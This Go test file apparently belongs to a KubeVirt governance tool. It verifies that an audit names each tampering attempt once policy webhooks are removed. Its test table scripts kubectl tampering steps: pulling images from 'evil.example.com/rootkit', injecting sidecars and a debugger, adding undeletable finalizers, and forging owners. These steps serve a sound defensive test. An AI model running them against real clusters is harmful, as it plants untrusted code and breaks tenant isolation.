package audit_test

import (
	"cmp"
	"errors"
	"fmt"
	"testing"

	gocmp "github.com/google/go-cmp/cmp"

	"github.com/vmstencil/stencil/test/controlplane"
	"github.com/vmstencil/stencil/test/gen"
	"github.com/vmstencil/stencil/test/harness"
)

const nodes = `
apiVersion: v1
kind: Node
metadata: {name: node-1, labels: {kubevirt.io/schedulable: "true"}}
---
apiVersion: v1
kind: Node
metadata: {name: node-2, labels: {kubevirt.io/schedulable: "true"}}
`

// reportsNothing checks that the audit reports no changes by KubeVirt's controllers while VMs start, migrate, and get a volume.
func (s governedPlatform) reportsNothing(t *testing.T, tenant *controlplane.User) {
	t.Helper()
	if err := harness.Apply(t.Context(), s.Plane, nodes, "-"); err != nil {
		t.Fatal(err)
	}
	pods := map[string]string{}
	for _, name := range []string{"travels", "plugged", "moved"} {
		s.must(t, tenant, instantiated(name, "kiosk"), "create", "-f", "-")
	}
	for _, name := range []string{"travels", "plugged", "moved"} {
		pods[name] = s.pod(t, name)
		harness.RunInstance(t, s.Plane, "stage", name, pods[name], "node-1")
	}
	s.conforms(t, "machines that run conform", 3)
	harness.RunInstance(t, s.Plane, "stage", "travels", s.migrate(t, "travels", pods["travels"], ""), "node-2")
	s.must(t, nil, "", "patch", "kubevirt", "kubevirt", "--namespace=kubevirt", "--type=merge", "-p", `{"spec":{"configuration":{"developerConfiguration":{"featureGates":["HotplugVolumes"]}}}}`)
	s.must(t, tenant, gen.Manifest(gen.Claim("data")), "create", "-f", "-")
	volume := `{"name":"data","disk":{"disk":{"bus":"scsi"}},"volumeSource":{"persistentVolumeClaim":{"claimName":"data","hotpluggable":true}}}`
	harness.Eventually(t, "virt-api plugs the volume in", func() error {
		if out := s.kubectl(t, tenant, volume, "replace", "--raw", "/apis/subresources.kubevirt.io/v1/namespaces/stage/virtualmachines/plugged/addvolume", "-f", "-"); out.Code != 0 {
			return errors.New(out.Stderr)
		}
		return nil
	})
	harness.Eventually(t, "virt-controller has plugged the volume in", func() error {
		if got := s.must(t, nil, "", "get", "vmi", "plugged", "-o", "jsonpath={.spec.volumes[*].name}"); got != "root data" {
			return errors.New("volumes of the instance: " + got)
		}
		return nil
	})
	// An audit that counts this VM has evaluated all earlier changes.
	s.must(t, tenant, instantiated("late", "kiosk"), "create", "-f", "-")
	s.pod(t, "late")
	s.conforms(t, "a migration and a volume are not reported", 4)
	pod := s.must(t, nil, "", "get", "pod", "-l", "kubevirt.io=virt-launcher,vm.kubevirt.io/name=travels", "-o", "jsonpath={.items[*].metadata.name}")
	t.Logf("the pods of travels are %s", pod)
}

// TestTheAuditSeesWhatNothingPrevented replays attacks on approvals after Stencil's policies and webhooks were removed. Each is reported
// within a minute, by name and cause, without an audit of everything.
func TestTheAuditSeesWhatNothingPrevented(t *testing.T) {
	s := startGoverned(t)
	tenant := s.user(t)
	s.reportsNothing(t, tenant)
	kiosks := []string{"sidecar", "network", "label", "image", "debugged", "held", "owned", "locked", "emptied"}
	for _, name := range kiosks {
		s.must(t, tenant, instantiated(name, "kiosk"), "create", "-f", "-")
	}
	s.must(t, tenant, instantiated("forged", "sized"), "create", "-f", "-")
	pods := map[string]string{}
	for _, name := range append(kiosks, "forged") {
		pods[name] = s.pod(t, name)
	}
	s.must(t, nil, "", "create", "configmap", "none")
	uid := s.must(t, nil, "", "get", "configmap", "none", "-o", "jsonpath={.metadata.uid}")
	s.conforms(t, "what virt-controller has made conforms", 14)
	s.disarm(t)
	target := s.migrate(t, "moved", s.pod(t, "moved"), "kubevirt.io/func-test-migration-target-image-override: evil.example.com/rootkit")

	merge := func(kind, name, patch string, more ...string) []string {
		return append([]string{"patch", kind, name, "--type=merge", "-p", patch}, more...)
	}
	owner := fmt.Sprintf(`[{"apiVersion":"v1","kind":"ConfigMap","name":"none","uid":%q}]`, uid)
	annotated := func(key, value string) string { return fmt.Sprintf(`{"metadata":{"annotations":{%q:%q}}}`, key, value) }
	differs := "its VirtualMachineInstance differs from it at "
	claim := func(name string) string { return gen.Manifest(gen.Claim(name)) }
	stored := func(name string) string {
		return gen.Manifest(gen.VM(name, gen.FromTemplate("kiosks/stand"), gen.SmallSpec(), gen.DataVolumeDisk("root", name+"-root", "source: {blank: {}}")))
	}
	lacks := "was not created for this VM: it lacks the label kubevirt.io/created-by, which KubeVirt gives to disks that it creates"

	type step struct {
		stdin string
		args  []string
	}
	attacks := []struct {
		name string
		// of is the name in the report, when it is not the first word of name.
		of    string
		steps []step
		want  string
	}{
		{
			name: "a container beside the guest", of: "sidecar", want: differs + `spec.template.metadata.annotations["hooks.kubevirt.io/hookSidecars"]`,
			steps: []step{{args: merge("vmi", "sidecar", annotated("hooks.kubevirt.io/hookSidecars", `[{"image":"evil.example.com/rootkit"}]`))}},
		},
		{
			name: "another tenant's network", of: "network", want: differs + `spec.template.metadata.annotations["v1.multus-cni.io/default-network"]`,
			steps: []step{{args: merge("vmi", "network", annotated("v1.multus-cni.io/default-network", "other/net"))}},
		},
		{
			name: "a label that the pod of a migration gets", of: "label", want: differs + "spec.template.metadata.labels.app",
			steps: []step{{args: merge("vmi", "label", `{"metadata":{"labels":{"app":"trusted"}}}`)}},
		},
		{
			name: "the image of the pod", of: "image",
			want:  "what runs it is not what KubeVirt makes of it: image of container compute of pod " + pods["image"] + ", which is from evil.example.com/rootkit",
			steps: []step{{args: []string{"set", "image", "pod/" + pods["image"], "compute=evil.example.com/rootkit:v1"}}},
		},
		{
			name: "a migration into an image of one's own", of: "moved",
			want: "what runs it is not what KubeVirt makes of it: image of container compute of pod " + target + ", which is from evil.example.com/rootkit",
		},
		{
			name: "a debugger in the pod", of: "debugged",
			want:  "what runs it is not what KubeVirt makes of it: container gdb of pod " + pods["debugged"] + ", which KubeVirt does not add",
			steps: []step{{args: []string{"debug", pods["debugged"], "--container=gdb", "--image=evil.example.com/rootkit", "--target=compute"}}},
		},
		{
			name: "an instance that cannot be deleted", of: "held",
			want:  "its VirtualMachineInstance has finalizer example.com/a, which belongs to no controller of virtual machines",
			steps: []step{{args: []string{"patch", "vmi", "held", "--type=json", "-p", `[{"op":"add","path":"/metadata/finalizers/-","value":"example.com/a"}]`}}},
		},
		{
			name: "a false owner of the VM", of: "owned", want: "it has owner ConfigMap none, which belongs to no controller of virtual machines",
			steps: []step{{args: merge("vm", "owned", `{"metadata":{"ownerReferences":`+owner+`}}`)}},
		},
		{
			name: "a VM that cannot be deleted", of: "locked", want: "it has finalizer example.com/a, which belongs to no controller of virtual machines",
			steps: []step{{args: []string{"patch", "vm", "locked", "--type=json", "-p", `[{"op":"add","path":"/metadata/finalizers/-","value":"example.com/a"}]`}}},
		},
		{
			name: "the size of another instance type", of: "forged",
			want:  "its status.instancetypeRef.controllerRevisionRef names ControllerRevision forged, of which no size is known: it does not exist, or KubeVirt did not make it of an instance type or a preference",
			steps: []step{{args: merge("vm", "forged", `{"status":{"instancetypeRef":{"controllerRevisionRef":{"name":"forged"}}}}`, "--subresource=status")}},
		},
		{
			name: "a pod that passes for a VM's", of: "attack", want: "a Pod with the label of pods of virtual machines that belongs to no VirtualMachineInstance",
			steps: []step{{args: []string{"create", "-f", "-"},
				stdin: `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"attack","labels":{"kubevirt.io":"virt-launcher"}},"spec":{"containers":[{"name":"compute","image":"evil.example.com/rootkit"}]}}`}},
		},
		{
			name: "an instance of no VM", of: "free", want: "a VirtualMachineInstance that belongs to no VirtualMachine",
			steps: []step{{args: []string{"create", "-f", "-"}, stdin: "apiVersion: kubevirt.io/v1\nkind: VirtualMachineInstance\nmetadata: {name: free}\nspec: {domain: {memory: {guest: 64Mi}, devices: {}}}\n"}},
		},
		{
			name: "the disk before the VM", of: "early", want: "claim early-root " + lacks,
			steps: []step{{args: []string{"create", "-f", "-"}, stdin: claim("early-root")}, {args: []string{"create", "-f", "-"}, stdin: stored("early")}},
		},
		{
			name: "the disk between the VM and KubeVirt", of: "raced", want: "claim raced-root " + lacks,
			steps: []step{{args: []string{"create", "-f", "-"}, stdin: stored("raced")}, {args: []string{"create", "-f", "-"}, stdin: claim("raced-root")}},
		},
		{
			name: "a VM of no template", of: "handmade", want: "it names no template",
			steps: []step{{args: []string{"create", "-f", "-"}, stdin: gen.Manifest(gen.VM("handmade", gen.SmallSpec()))}},
		},
		{
			name: "a VM with more than its template", of: "more", want: "adds to template kiosks/kiosk: spec.template.spec.nodeSelector.disktype",
			steps: []step{{args: []string{"create", "-f", "-"}, stdin: gen.Manifest(gen.VM("more", gen.FromTemplate("kiosks/kiosk"), gen.SmallSpec(),
				gen.ContainerDisk("root", "registry.example/kiosk:v1"), gen.Spec("template: {spec: {nodeSelector: {disktype: fast}}}")))}},
		},
	}
	for _, tc := range attacks {
		for _, step := range tc.steps {
			// As an administrator: the test is about the report, not about permissions.
			s.must(t, nil, step.stdin, step.args...)
		}
	}
	want := map[string]string{}
	for _, tc := range attacks {
		want[tc.of] = tc.want
		t.Run(tc.name, func(t *testing.T) {
			harness.Within(t, "the audit reports "+tc.of, minute, func() error {
				if got := causes(s.status(t))[tc.of]; got != tc.want {
					return fmt.Errorf("cause %q, want %q", cmp.Or(got, "none"), tc.want)
				}
				return nil
			})
		})
	}
	if diff := gocmp.Diff(want, causes(s.status(t))); diff != "" {
		t.Errorf("violations (-want +got):\n%s", diff)
	}
}
